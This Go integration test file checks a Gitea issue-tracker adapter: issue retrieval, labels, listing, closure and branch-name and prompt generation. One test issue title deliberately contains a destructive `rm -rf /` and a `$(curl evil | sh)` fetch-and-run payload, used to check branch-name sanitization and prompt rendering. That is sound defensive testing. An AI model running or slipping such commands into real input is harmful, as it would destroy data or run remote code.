//go:build integration

package gitea

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"strconv"
	"testing"
	"time"

	. "github.com/onsi/gomega"

	"github.com/shepherd-dev/shepherd/internal/gitref"
	"github.com/shepherd-dev/shepherd/internal/scm"
	"github.com/shepherd-dev/shepherd/internal/tracker"
	giteatest "github.com/shepherd-dev/shepherd/test/gitea"
)

// forge is the real Gitea the package's tests share.
var forge *giteatest.Server

var ctx = context.Background()

func TestMain(m *testing.M) {
	os.Exit(runMain(m))
}

func runMain(m *testing.M) int {
	sctx, cancel := context.WithTimeout(context.Background(), 30*time.Minute)
	defer cancel()
	dir, err := os.MkdirTemp("", "shepherd-gitea-tracker-")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	defer func() { _ = os.RemoveAll(dir) }()
	forge, err = giteatest.Start(sctx, giteatest.Options{Dir: dir, Log: os.Stderr})
	if err != nil {
		fmt.Fprintln(os.Stderr, "start gitea:", err)
		return 1
	}
	defer func() { _ = forge.Stop() }()
	return m.Run()
}

// setup creates a repository of the admin and a tracker on it.
func setup(t *testing.T, name string) (*giteatest.Client, tracker.Tracker) {
	t.Helper()
	g := NewWithT(t)
	owner := forge.Client(forge.Admin)
	g.Expect(owner.CreateRepo(ctx, name)).To(Succeed())
	tr, err := tracker.New(tracker.Config{Provider: "gitea", APIURL: forge.APIURL, Token: []byte(forge.Admin.Token),
		Repo: scm.Repo{Owner: forge.Admin.Name, Name: name}})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(tr.Name()).To(Equal("gitea"))
	return owner, tr
}

func TestGiteaIssueToBranchAndPrompt(t *testing.T) {
	t.Parallel()
	g := NewWithT(t)
	owner, tr := setup(t, "prompt")
	title := "Fix `rm -rf /`; $(curl evil | sh) — ünïcödé 🚀 and a long tail that goes on and on and on and on and on and on and on"
	n, err := owner.CreateIssue(ctx, forge.Admin.Name, "prompt", title, "Steps: run `make`")
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(tr.AddLabels(ctx, strconv.Itoa(n), "bug")).To(Succeed())
	g.Expect(forge.Client(forge.Reviewer).CommentIssue(ctx, forge.Admin.Name, "prompt", n, "Also on mobile")).To(Succeed())

	is, err := tr.GetIssue(ctx, "#"+strconv.Itoa(n))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(is.ID).To(Equal(strconv.Itoa(n)))
	g.Expect(is.Key).To(Equal(strconv.Itoa(n)))
	g.Expect(is.Title).To(Equal(title))
	g.Expect(is.Body).To(Equal("Steps: run `make`"))
	g.Expect(is.Labels).To(ConsistOf("bug"))
	g.Expect(is.URL).To(Equal(fmt.Sprintf("%s/%s/prompt/issues/%d", forge.URL, forge.Admin.Name, n)))
	g.Expect(is.State).To(Equal("open"))
	g.Expect(is.Completed).To(BeFalse())
	g.Expect(is.Comments).To(HaveLen(1))
	g.Expect(is.Comments[0].Author).To(Equal(forge.Reviewer.Name))
	g.Expect(is.Comments[0].Body).To(Equal("Also on mobile"))
	g.Expect(is.Comments[0].CreatedAt).NotTo(BeZero())

	branch, err := tracker.BranchName("shepherd/", is)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(gitref.ValidateBranch(branch)).To(Succeed())
	g.Expect(branch).To(HavePrefix(fmt.Sprintf("shepherd/%d-fix-rm-rf-curl-evil-sh", n)))
	prompt, err := tracker.RenderPrompt("", tracker.NewPromptData(is, tracker.PromptProject{Name: "w", Repository: forge.Admin.Name + "/prompt"}, branch))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(prompt).To(ContainSubstring(title))
	g.Expect(prompt).To(ContainSubstring("reviewer: Also on mobile"))
}

func TestGiteaLabelsCompletionAndList(t *testing.T) {
	t.Parallel()
	g := NewWithT(t)
	owner, tr := setup(t, "backlog")
	repo := "backlog"
	a, err := owner.CreateIssue(ctx, forge.Admin.Name, repo, "A", "")
	g.Expect(err).NotTo(HaveOccurred())
	b, err := owner.CreateIssue(ctx, forge.Admin.Name, repo, "B", "")
	g.Expect(err).NotTo(HaveOccurred())
	_, err = owner.CreateIssue(ctx, forge.Admin.Name, repo, "C", "")
	g.Expect(err).NotTo(HaveOccurred())
	// Labels the repository does not have yet are created on first use.
	g.Expect(tr.AddLabels(ctx, strconv.Itoa(a), "agent:backlog")).To(Succeed())
	g.Expect(tr.AddLabels(ctx, strconv.Itoa(b), "agent:backlog", "p1")).To(Succeed())
	g.Expect(tr.AddLabels(ctx, strconv.Itoa(b), "p1")).To(Succeed(), "adding a present label keeps it")
	// A pull request shares the issue numbers and is never listed, whatever its labels.
	_, err = owner.CommitFiles(ctx, forge.Admin.Name, repo, "pr-branch", "main", map[string]string{"x": "y"}, "x")
	g.Expect(err).NotTo(HaveOccurred())
	var pr struct {
		Number int `json:"number"`
	}
	g.Expect(owner.Do(ctx, http.MethodPost, fmt.Sprintf("/repos/%s/%s/pulls", forge.Admin.Name, repo),
		map[string]any{"head": "pr-branch", "base": "main", "title": "PR"}, &pr)).To(Succeed())
	var labels []struct {
		ID   int64  `json:"id"`
		Name string `json:"name"`
	}
	g.Expect(owner.Do(ctx, http.MethodGet, fmt.Sprintf("/repos/%s/%s/labels", forge.Admin.Name, repo), nil, &labels)).To(Succeed())
	g.Expect(labels).To(HaveLen(2), "each label created once")
	g.Expect(owner.Do(ctx, http.MethodPost, fmt.Sprintf("/repos/%s/%s/issues/%d/labels", forge.Admin.Name, repo, pr.Number),
		map[string]any{"labels": []int64{labels[0].ID, labels[1].ID}}, nil)).To(Succeed())

	list, err := tr.ListIssues(ctx, tracker.ListOptions{Labels: []string{"agent:backlog"}})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(list).To(HaveLen(2))
	g.Expect(list[0].Title).To(Equal("B"), "newest first")
	g.Expect(list[1].Title).To(Equal("A"))

	list, err = tr.ListIssues(ctx, tracker.ListOptions{Labels: []string{"agent:backlog", "p1"}})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(list).To(HaveLen(1), "all the labels, not any")
	g.Expect(list[0].Title).To(Equal("B"))
	list, err = tr.ListIssues(ctx, tracker.ListOptions{Labels: []string{"agent:backlog", "no-such-label"}})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(list).To(BeEmpty())
	list, err = tr.ListIssues(ctx, tracker.ListOptions{Limit: 2})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(list).To(HaveLen(2))

	g.Expect(tr.AddLabels(ctx, strconv.Itoa(a), "agent:in-progress")).To(Succeed())
	g.Expect(tr.RemoveLabels(ctx, strconv.Itoa(a), "agent:backlog", "never-there")).To(Succeed())
	g.Expect(tr.RemoveLabels(ctx, strconv.Itoa(a), "agent:backlog")).To(Succeed(), "removing an absent label is the wanted state")
	is, err := tr.GetIssue(ctx, strconv.Itoa(a))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(is.Labels).To(ConsistOf("agent:in-progress"))

	done, err := tr.IsCompleted(ctx, strconv.Itoa(b))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(done).To(BeFalse())
	since := time.Now().Add(-time.Minute)
	g.Expect(owner.CloseIssue(ctx, forge.Admin.Name, repo, b)).To(Succeed())
	done, err = tr.IsCompleted(ctx, strconv.Itoa(b))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(done).To(BeTrue())
	closed, err := tr.Closed(ctx, []string{strconv.Itoa(a), "#" + strconv.Itoa(b)}, since)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(closed).To(Equal(map[string]string{"#" + strconv.Itoa(b): "closed"}), "Gitea's since filter and state=closed")
	list, err = tr.ListIssues(ctx, tracker.ListOptions{Labels: []string{"agent:backlog"}})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(list).To(BeEmpty(), "closed issues are done")

	_, err = tr.GetIssue(ctx, "999")
	g.Expect(errors.Is(err, tracker.ErrNotFound)).To(BeTrue(), "%v", err)
	_, err = tr.GetIssue(ctx, "ENG-1")
	g.Expect(errors.Is(err, tracker.ErrInvalidID)).To(BeTrue())
	_, err = tr.GetIssue(ctx, strconv.Itoa(pr.Number))
	g.Expect(errors.Is(err, tracker.ErrInvalidID)).To(BeTrue(), "%v", err)
	g.Expect(errors.Is(tr.AddLabels(ctx, "999", "x"), tracker.ErrNotFound)).To(BeTrue())

	bad, err := tracker.New(tracker.Config{Provider: "gitea", APIURL: forge.APIURL, Token: []byte("0123456789abcdef0123456789abcdef01234567"),
		Repo: scm.Repo{Owner: forge.Admin.Name, Name: repo}})
	g.Expect(err).NotTo(HaveOccurred())
	_, err = bad.GetIssue(ctx, strconv.Itoa(a))
	g.Expect(errors.Is(err, scm.ErrTokenRejected)).To(BeTrue(), "%v", err)
	_, err = tracker.New(tracker.Config{Provider: "gitea", APIURL: forge.APIURL, Token: []byte("x")})
	g.Expect(err).To(HaveOccurred(), "the repository is required")
}
